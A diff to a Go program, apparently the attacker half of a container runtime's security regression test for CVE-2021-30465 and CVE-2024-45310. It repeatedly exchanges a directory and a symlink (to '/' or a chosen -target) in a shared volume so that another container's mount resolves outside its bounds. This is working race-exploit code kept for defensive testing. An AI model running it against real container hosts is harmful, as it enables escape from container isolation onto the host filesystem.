@@ -1,8 +1,9 @@
 // Command swapper is the attacker of SECURITY 8 (CVE-2021-30465,
 // CVE-2024-45310): run inside a container that shares a volume with
-// others, it atomically exchanges a directory and a symlink to "/" in that
-// volume, so that another container's mount destination through the
-// directory's name may resolve through the symlink instead. It writes its
+// others, it atomically exchanges a directory and a symlink (to -target,
+// "/" by default) in that volume, so that another container's mount
+// destination through the directory's name may resolve through the symlink
+// instead. It writes its
 // swap count to -done when finished.
 package main
 
@@ -17,23 +18,24 @@ import (
 
 func main() {
 	dir := flag.String("dir", "", "directory to exchange with -link")
-	link := flag.String("link", "", "symlink to / to exchange with -dir")
+	link := flag.String("link", "", "symlink to exchange with -dir")
+	target := flag.String("target", "/", "where -link points")
 	swaps := flag.Int("n", 1000, "number of exchanges")
 	pause := flag.Duration("pause", 5*time.Millisecond, "pause between exchanges, so they span many creates")
 	done := flag.String("done", "", "file to write the swap count to when finished")
 	ready := flag.String("ready", "", "file to create once the volume is prepared")
 	flag.Parse()
-	if err := run(*dir, *link, *swaps, *pause, *done, *ready); err != nil {
+	if err := run(*dir, *link, *target, *swaps, *pause, *done, *ready); err != nil {
 		fmt.Fprintln(os.Stderr, "swapper:", err)
 		os.Exit(1)
 	}
 }
 
-func run(dir, link string, swaps int, pause time.Duration, done, ready string) error {
+func run(dir, link, target string, swaps int, pause time.Duration, done, ready string) error {
 	if err := os.MkdirAll(dir, 0o755); err != nil {
 		return err
 	}
-	if err := os.Symlink("/", link); err != nil {
+	if err := os.Symlink(target, link); err != nil {
 		return err
 	}
 	if err := os.WriteFile(ready, nil, 0o644); err != nil {
